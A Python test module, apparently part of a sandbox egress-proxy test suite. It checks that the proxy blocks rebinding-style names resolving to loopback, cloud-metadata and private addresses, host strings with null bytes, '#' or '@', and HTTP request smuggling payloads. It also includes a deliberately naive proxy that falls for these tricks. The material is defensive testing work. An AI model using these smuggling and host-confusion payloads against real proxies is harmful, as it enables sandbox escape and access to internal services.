"""Section F, where the proxy itself would be the accomplice: names that lead to forbidden addresses, hosts that the proxy
reads differently than it dials (F5, F19, F24), and names of another session."""

import re
import socket
import threading

import escape
import harness
from escape import CANARY4, PORT, Row

ANY_HOST = """
version: 1
name: e2e
file_rules:
  - {name: workspace, paths: ["${PROJECT_ROOT}/**"], operations: ["*"], decision: allow}
network_rules:
  - {name: any-host, domains: ["*"], decision: allow}
command_rules:
  - {name: everything, decision: allow}
"""

FETCH = """
import http.client
for host in HOSTS:
    try:
        c = http.client.HTTPConnection(host, PORT, timeout=1); c.request("GET", "/" + TOKEN.decode()); c.getresponse().read(100)
    except Exception as e: print(host, repr(e))
"""


def hostile(*labels):
    return f"HOSTS = {[label + '.hostile.example.net' for label in labels]!r}\n" + FETCH


class HostileNames(escape.EscapeTest):
    """Any host name is allowed, and an attacker's zone says where the names lead."""

    policies = {"e2e": ANY_HOST}

    rows = [
        Row("F5-name-loopback", "a name of the host's loopback", hostile("loopback4", "loopback6")),
        Row("F5-name-unspecified", "a name of no address, which is this host", hostile("unspecified")),
        Row("F5-name-metadata", "a name of the metadata service", hostile("metadata4")),
        Row("F5-name-metadata6", "a name of its IPv6 address", hostile("metadata6")),
        Row("F5-name-private", "a name of a private network", hostile("private4")),
        Row("F5-name-mapped", "the same as an IPv4-mapped address", hostile("mapped")),
        Row("F5-name-nat64", "the same behind the NAT64 prefix", hostile("nat64")),
        Row("F5-name-6to4", "the same as a 6to4 address", hostile("sixtofour")),
    ]

    PROXIED = """
import socket
s = socket.create_connection((PROXY, 3128)); s.settimeout(3)
for label in LABELS:
    with __import__("contextlib").suppress(OSError):
        s = socket.create_connection((PROXY, 3128)); s.settimeout(3)
        host = label + ".hostile.example.net:" + str(PORT)
        s.sendall(REQUEST.replace("HOST", host).encode() + b"\\r\\n\\r\\n")
        print(s.recv(200)); s.sendall(b"GET /" + TOKEN + b" HTTP/1.1\\r\\n\\r\\n"); print(s.recv(200))
"""

    def test_F5_by_proxy(self):
        """F5: the same names given to the explicit proxy, by CONNECT and in absolute form"""
        for request in ("CONNECT HOST HTTP/1.1\r\nHost: HOST", "GET http://HOST/TOKEN HTTP/1.1\r\nHost: HOST"):
            token = self.new_token("f5-proxy")
            self.tokens.append(token)
            definitions = dict(PROXY="198.18.0.54", LABELS=list(escape.HOSTILE_NAMES), PORT=PORT, TOKEN=token,
                               REQUEST=request.replace("TOKEN", token.decode()))
            program = "".join(f"{k} = {v!r}\n" for k, v in definitions.items()) + self.PROXIED
            result = self.inside(["/usr/bin/python3", "-c", program])
            self.assertEqual(result.returncode, 0, self.text(result))
            self.assertFalse(self.arrived(token), self.text(result))

    def test_zz_denials_are_events(self):
        """Each of the forbidden addresses has left an event of its refusal"""
        self.inside(["curl", "-sS", "--max-time", "3", "http://metadata4.hostile.example.net/"])
        denied = [e for e in self.events(self.sid) if e.get("policy", {}).get("decision") == "deny"]
        self.assertTrue([e for e in denied if "metadata4.hostile.example.net" in (e.get("domain") or "")], denied[:3])


def naive_proxy():
    """What has happened to others: the host is matched as it was sent and dialled as something else reads it."""
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("127.0.0.1", 0))
    listener.listen()

    def serve():
        while True:
            client, _ = listener.accept()
            request = client.recv(65536)
            found = re.search(rb"^CONNECT ([^\r\n]*):(\d+) HTTP/1.[01]\r\n|^GET http://([^\r\n]*)/\S* HTTP|\nHost: ([^\r\n]*)", request)
            host = next((g for g in found.groups() if g and not g.isdigit()), b"") if found else b""
            if re.search(rb"example\.com(:\d+)?$", host):
                dialled = re.split(rb"[\0#?/%\\ \t]", host)[0].split(b"@")[-1].split(b":")[0]
                dialled = CANARY4.encode() if b"11.22" in host else dialled
                server = socket.create_connection((dialled.decode(), PORT))
                server.sendall(request)
                server.close()
            client.close()

    threading.Thread(target=serve, daemon=True).start()
    return listener.getsockname()[1]


class HostDifferentials(escape.EscapeTest):
    """F19: two readings of one host name."""

    HOSTS = {
        "null": "CANARY\0.example.com", "null-port": "CANARY:PORT\0.example.com", "encoded-null": "CANARY%00.example.com",
        "hash": "CANARY#.example.com", "query": "CANARY?.example.com", "slash": "CANARY/.example.com",
        "backslash": "CANARY\\.example.com", "userinfo": "www.example.com@CANARY#.example.com", "space": "CANARY .example.com",
        "tab": "CANARY\t.example.com",
    }
    REQUESTS = {
        "connect": "CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n",
        "absolute": "GET http://{host}/{token} HTTP/1.1\r\nHost: www.example.com\r\n\r\n",
        "host": "GET /{token} HTTP/1.1\r\nHost: {host}\r\n\r\n",
    }
    SEND = """
import socket, sys
address, port, data, token = sys.argv[1], int(sys.argv[2]), bytes.fromhex(sys.argv[3]), sys.argv[4].encode()
s = socket.create_connection((address, port)); s.settimeout(2)
try:
    s.sendall(data); print(s.recv(300)); s.sendall(token); print(s.recv(300))
except OSError as e: print(e)
"""

    def send(self, runner, address, port, data, token):
        return runner(["/usr/bin/python3", "-c", self.SEND, address, str(port), data.hex(), token.decode()])

    def test_F19_differentials(self):
        """F19: control bytes and delimiters inside the host, to the proxy and to an allowed server"""
        careless = naive_proxy()
        for name, host in self.HOSTS.items():
            host = host.replace("CANARY", CANARY4).replace("PORT", str(PORT))
            for form, template in self.REQUESTS.items():
                def request(token):
                    text = template.format(host=host, port=PORT, token=token.decode()).encode()
                    return text.replace(b"\r\n\r\n", b"\r\nX-Token: " + token + b"\r\n\r\n")

                with self.subTest(host=name, form=form):
                    if form == "connect" and name in ("null", "hash"):  # It falls for these; that is enough to show the trick.
                        token = self.new_token(f"f19-{name}-out")
                        result = self.send(self.outside, "127.0.0.1", careless, request(token), token)
                        self.assertTrue(self.internet.canaries.wait_for(token), self.text(result))
                    for address, port in (("198.18.0.54", 3128),) + (((harness.WEB4, 80),) if form == "host" else ()):
                        token = self.new_token(f"f19-{name}-{form}")
                        self.tokens.append(token)
                        result = self.send(self.inside, address, port, request(token), token)
                        self.assertEqual(result.returncode, 0, self.text(result))
                        self.assertFalse(self.arrived(token), self.text(result))

    SECOND = """
import socket, sys
token = sys.argv[1].encode()
s = socket.create_connection((socket.gethostbyname("www.example.com"), 80)); s.settimeout(3)
s.sendall(b"GET / HTTP/1.1\\r\\nHost: www.example.com\\r\\n\\r\\n"); print(s.recv(1000))
for host in (b"denied.example.org", b"www.example.com\\r\\nHost: denied.example.org", b"nowhere.example.org"):
    try:
        s.sendall(b"GET /" + token + b" HTTP/1.1\\r\\nHost: " + host + b"\\r\\n\\r\\n"); print(s.recv(1000))
    except OSError as e: print(e)
"""

    def test_F24_second_request(self):
        """F24: an allowed connection used for another host, which the same server also serves"""
        token = self.new_token("f24-out")
        result = self.outside(["/usr/bin/python3", "-c", self.SECOND, token.decode()])
        self.assertTrue(self.internet.capture.wait_for(token), self.text(result))
        token = self.new_token("f24")
        self.tokens.append(token)
        result = self.inside(["/usr/bin/python3", "-c", self.SECOND, token.decode()])
        self.assertIn(b"200 OK", result.stdout, self.text(result))
        self.assertFalse(self.arrived(token), self.text(result))

    SMUGGLE = {
        "both lengths": "POST / HTTP/1.1\r\nHost: www.example.com\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "two lengths": "POST / HTTP/1.1\r\nHost: www.example.com\r\nContent-Length: 0\r\nContent-Length: 200\r\n\r\n",
        "odd coding": "POST / HTTP/1.1\r\nHost: www.example.com\r\nTransfer-Encoding: xchunked\r\nContent-Length: 0\r\n\r\n",
        "bare line feed": "POST / HTTP/1.1\nHost: www.example.com\nContent-Length: 0\n\n",
    }

    def test_F24_smuggled_request(self):
        """F24: a request for another host hidden in the framing of an allowed one"""
        for name, head in self.SMUGGLE.items():
            token = self.new_token("f24-smuggle")
            self.tokens.append(token)
            data = (head + f"GET /{token.decode()} HTTP/1.1\r\nHost: denied.example.org\r\n\r\n").encode()
            address = self.inside(["getent", "ahostsv4", "www.example.com"]).stdout.split()[0].decode()
            with self.subTest(name):
                result = self.send(self.inside, address, 80, data, b"\r\n")
                self.assertFalse(self.arrived(token), self.text(result))

    def test_F5_lease_of_another_session(self):
        """F5: an address which another session was given for an allowed name is only an address here"""
        token = self.new_token("f5-lease")
        url = f"http://{harness.WEB4}/{token.decode()}"
        self.outside(["curl", "-sS", url])
        self.assertTrue(self.internet.capture.wait_for(token))
        self.assertEqual(self.inside(["curl", "-sS", "http://v4.example.com/"]).stdout, b"hello\n")
        other = self.create_session()
        token = self.new_token("f5-lease-in")
        self.tokens.append(token)
        url = f"http://{harness.WEB4}/{token.decode()}"
        for header in ((), ("-H", "Host: v4.example.com")):
            result = self.run_in(other, "curl", "-sS", "--max-time", "5", *header, url)
            self.assertFalse(self.arrived(token), self.text(result))


if __name__ == "__main__":
    escape.main()
